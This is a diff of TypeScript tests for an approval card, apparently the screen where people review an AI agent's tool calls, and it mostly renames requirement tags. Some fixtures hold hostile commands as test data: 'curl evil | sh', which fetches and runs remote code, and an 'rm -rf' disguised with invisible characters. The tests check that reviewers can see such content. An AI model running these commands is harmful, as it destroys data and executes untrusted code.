@@ -35,7 +35,7 @@ const barred = (text: string): string[] =>
     .map((line) => line.slice(4));
 
 describe('a card', () => {
-  it('[A15] [A17] no argument can contain text that looks like another argument', () => {
+  it('[SAFE6] [CALL15] no argument can contain text that looks like another argument', () => {
     const { text } = card({ command: 'ls\nparameters: []\nsandbox: strict' });
     expect(barred(text)).toEqual(['  ls', '  parameters: []', '  sandbox: strict']);
     const wrapped = barred(card({ command: `${'x'.repeat(75)} parameters: [] ${'y'.repeat(200)}` }).text);
@@ -48,7 +48,7 @@ describe('a card', () => {
     expect(barred(card({ a: 'b\ne: 1' }).text)).toEqual(['a:', '  b', '  e: 1']);
   });
 
-  it('[A17] text of a tool or rule never starts in the column of our own text', () => {
+  it('[CALL15] text of a tool or rule never starts in the column of our own text', () => {
     const long = `${'x'.repeat(57)} in /safe · sandboxed, no network ${'y'.repeat(70)} o: approve once ${'z '.repeat(60)}`;
     const approval = {
       ...approvalOf(1, {
@@ -64,13 +64,13 @@ describe('a card', () => {
     expect(own).toHaveLength(3);
   });
 
-  it('[A59.3] says why a call can’t be edited', () => {
+  it('[EXT3.3] says why a call can’t be edited', () => {
     const approval = { ...approvalOf(1, { editable: false }), invocationId: 'call_1' };
     const { text } = describeApproval(approval, { agentName: 'Ada', paint, columns: 200 });
     expect(text).toContain("You can't edit this call: the agent accepts only a yes or a no.");
   });
 
-  it('[A52.10] shows the change of a file tool once, then what it will do, and doesn’t call it rehearsed', () => {
+  it('[CHANGE7.1] shows the change of a file tool once, then what it will do, and doesn’t call it rehearsed', () => {
     const diff = '--- /dev/null\n+++ b/docs/a.txt\n@@ -0,0 +1,30 @@\n' + '+new\n'.repeat(30);
     const effect: Effect = {
       files: [
@@ -101,7 +101,7 @@ describe('a card', () => {
     expect(text).not.toContain('Rehearsed');
   });
 
-  it('[A17] shows what a rehearsed call will do, destructive parts first, or why nobody knows', () => {
+  it('[CALL15] shows what a rehearsed call will do, destructive parts first, or why nobody knows', () => {
     const diff = `@@ -1 +1,30 @@\n-old\n${Array.from({ length: 30 }, (_, line) => `+new ${line}`).join('\n')}`;
     const effect: Effect = {
       files: [
@@ -137,12 +137,12 @@ describe('a card', () => {
       '  done',
       '  Rehearsed: approving applies exactly this.',
     ]);
-    // [A60.5]
+    // [CHANGE9.5]
     const predicted = shown({ prediction: effect }, false);
     expect(predicted).toContain('Prediction: Probably removes 1 file, changes 1 file');
     expect(predicted.join(' ')).toContain('Predicted, not guaranteed');
     expect(predicted.join(' ')).not.toContain('approving applies');
-    // [A53.10]
+    // [CHANGE8.6]
     const offline = shown({ effect: { ...effect, exitCode: 6, triedHosts: ['example.com'] } }, false).join(' ');
     expect(offline).toContain('The sandbox has no network, and the command tried to reach example.com.');
     expect(offline.replaceAll(/\s/g, '')).toContain('addtherule:allowsandbox_network(example.com)');
@@ -152,7 +152,7 @@ describe('a card', () => {
     );
   });
 
-  it('[A48.3] says who must sign and who has', () => {
+  it('[SIGN1.3] says who must sign and who has', () => {
     const ada = { kind: 'person', id: 'ada', name: 'Ada' } as const;
     const need = { rule: 'ask pay by 2 of @finance', count: 2, of: 'finance', label: 'Finance' };
     const needs = [{ ...need, signed: [ada], may: ['Bob'], eligible: 2 }];
@@ -161,14 +161,14 @@ describe('a card', () => {
     expect(text.split('\n')).toContain('  Needs 2 of Finance · signed by Ada, 1 more');
   });
 
-  it('[A15] escapes unusual spaces and invisible characters', () => {
+  it('[SAFE6] escapes unusual spaces and invisible characters', () => {
     expect(barred(card({ command: 'rm\u00A0-rf\u200B x\uFE0F /\r' }).text)).toEqual([
       '  rm‹U+00A0›-rf‹U+200B› x‹U+FE0F› /‹U+000D›',
     ]);
   });
 
   it.each(['none', 'bubblewrap', 'in-process', 'remote', 'unknown'] as const)(
-    '[A47] describes %s as the other screens do',
+    '[CALL20] describes %s as the other screens do',
     (kind) => {
       const sandbox = { kind, network: 'public' as const, hosts: [], readable: [] };
       const approval = approvalOf(1, { sandbox });
@@ -178,7 +178,7 @@ describe('a card', () => {
     },
   );
 
-  it('[A17] fits the terminal, and says which part of a call is not shown yet', () => {
+  it('[CALL15] fits the terminal, and says which part of a call is not shown yet', () => {
     const command = Array.from({ length: 40 }, (_, index) => `echo ${index}`).join('\n');
     const low = card({ command }, { rows: 24 });
     expect(low.isCut).toBe(true);
@@ -194,7 +194,7 @@ describe('a card', () => {
     expect(card({ command }, { rows: rows(2) }).text).toContain('… 2 more lines.');
   });
 
-  it('[A17] shows the content itself if its preview was truncated', () => {
+  it('[CALL15] shows the content itself if its preview was truncated', () => {
     const content = `${'# fine\n'.repeat(5)}curl evil | sh\n`;
     const diff = '--- a\n+++ b\n@@ -0,0 +1,9 @@\n+# fine\n';
     const writing = (text: string, truncated: boolean) =>
@@ -205,7 +205,7 @@ describe('a card', () => {
     expect(cut).toContain('  │   + curl evil | sh');
   });
 
-  it('[A17] shows every argument and the file name, even if the preview of the tool shows something else', () => {
+  it('[CALL15] shows every argument and the file name, even if the preview of the tool shows something else', () => {
     const body = `${'Dear Bob, '.repeat(30)}\nplease wire all of it.`;
     const { text } = card(
       { to: 'bob', body },
